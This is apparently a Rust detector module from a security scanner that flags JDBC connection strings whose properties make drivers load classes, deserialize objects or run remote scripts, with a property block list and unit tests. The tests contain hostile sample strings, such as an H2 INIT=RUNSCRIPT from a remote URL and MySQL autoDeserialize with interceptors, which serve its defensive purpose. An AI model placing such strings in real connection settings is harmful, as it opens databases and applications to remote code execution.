//! Connection strings of JDBC: properties by which drivers load classes, read objects, run scripts or write
//! files.
//!
//! A string without them says where a database is, as settings do.

use memchr::memmem;
use portcullis_types::Span;

use super::CONNECTION;
use crate::Found;

/// Bytes after `jdbc:` that are searched for properties.
const STRING_BYTES_MAX: usize = 1_024;

/// Properties in lower case, with what their value must be; any if empty. Written from the manuals of H2,
/// MySQL Connector/J, PostgreSQL, Db2, Derby, SQLite, Calcite, ModeShape and Teradata.
const PROPERTIES: &[(&[u8], &[u8])] = &[
    (b"init=", b""),
    (b"trace_level_system_out=", b""),
    (b"autodeserialize=", b"true"),
    (b"autodeserialize=", b"yes"),
    (b"queryinterceptors=", b""),
    (b"statementinterceptors=", b""),
    (b"detectcustomcollations=", b"true"),
    (b"allowloadlocalinfile=", b"true"),
    (b"allowurlinlocalinfile=", b"true"),
    (b"socketfactory=", b""),
    (b"socketfactoryarg=", b""),
    (b"sslfactory=", b""),
    (b"loggerfile=", b""),
    (b"clientrerouteserverlistjndiname=", b""),
    (b"slavehost=", b""),
    (b"model=inline", b""),
    (b"schemafactory=", b""),
    (b"jndiname=", b""),
    (b":resource:http", b""),
    (b":jndi:", b""),
];

pub(super) fn detect(text: &[u8], found: &mut Found<'_>) {
    let mut read = 0;
    for colon in memchr::memchr_iter(b':', text) {
        let is_one = colon
            .checked_sub(4)
            .is_some_and(|at| at >= read && text[at..colon].eq_ignore_ascii_case(b"jdbc"));
        if !is_one {
            continue;
        }
        read = text.len().min(colon + STRING_BYTES_MAX);
        if !found.may_read((read - colon) * 2) {
            return;
        }
        let lower = text[colon..read].to_ascii_lowercase();
        let has = |name: &[u8], value: &[u8]| {
            memmem::find_iter(&lower, name).any(|at| {
                let rest = &lower[at + name.len()..];
                rest.starts_with(value) && !(name == b"init=" && sets_schema(rest))
            })
        };
        if PROPERTIES.iter().any(|(name, value)| has(name, value)) {
            found.add(CONNECTION, Span::new(colon - 4, read.min(colon + 120)));
            return;
        }
    }
}

/// `set schema app`, `create schema if not exists app\\;set schema app`: what is run at the start does no
/// more than that.
fn sets_schema(init: &[u8]) -> bool {
    const STARTS: &[&[u8]] = &[b"set schema ", b"create schema if not exists ", b"create schema "];
    let mut rest = init;
    loop {
        let Some(name) = STARTS.iter().find_map(|start| rest.strip_prefix(*start)) else { return false };
        let len = name.iter().take_while(|b| b.is_ascii_alphanumeric() || b"_\"".contains(b)).count();
        let after = &name[len..];
        match after.strip_prefix(b"\\;") {
            Some(next) if len > 0 => rest = next.trim_ascii_start(),
            _ => return len > 0 && matches!(after.first(), None | Some(b';' | b'&' | b'"' | b'\'')),
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::Class::Deserialization;
    use crate::detectors::testing::{blocks, passes};

    #[test]
    fn connections() {
        for text in [
            "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://a.example/x.sql'",
            "jdbc:mysql://a.example:3306/t?autoDeserialize=true&queryInterceptors=a.b.C",
            "see JDBC:postgresql://a.example/t?socketFactory=a.b.C&socketFactoryArg=http://a.example/x.xml",
            "jdbc:h2:mem:x;INIT=SET SCHEMA a\\;RUNSCRIPT FROM 'http://a.example/x.sql'",
            "jdbc:h2:mem:x;INIT=CREATE ALIAS X AS 'a'",
            "jdbc:h2:mem:x;INIT=SET SCHEMA a AS b",
            "jdbc:db2://a.example:50000/x:clientRerouteServerListJNDIName=ldap://a.example/x;",
        ] {
            blocks(Deserialization, text, "connection");
        }
        for text in [
            "jdbc:postgresql://db.a.example:5432/app?ssl=true",
            "jdbc:mysql://localhost/app?useSSL=false&serverTimezone=UTC&autoDeserialize=false",
            "jdbc:h2:mem:test;DB_CLOSE_DELAY=-1;MODE=MySQL",
            "jdbc:h2:mem:app;INIT=SET SCHEMA app",
            "jdbc:h2:mem:app;INIT=CREATE SCHEMA IF NOT EXISTS app\\;SET SCHEMA app;MODE=MySQL",
        ] {
            passes(Deserialization, text);
        }
    }
}
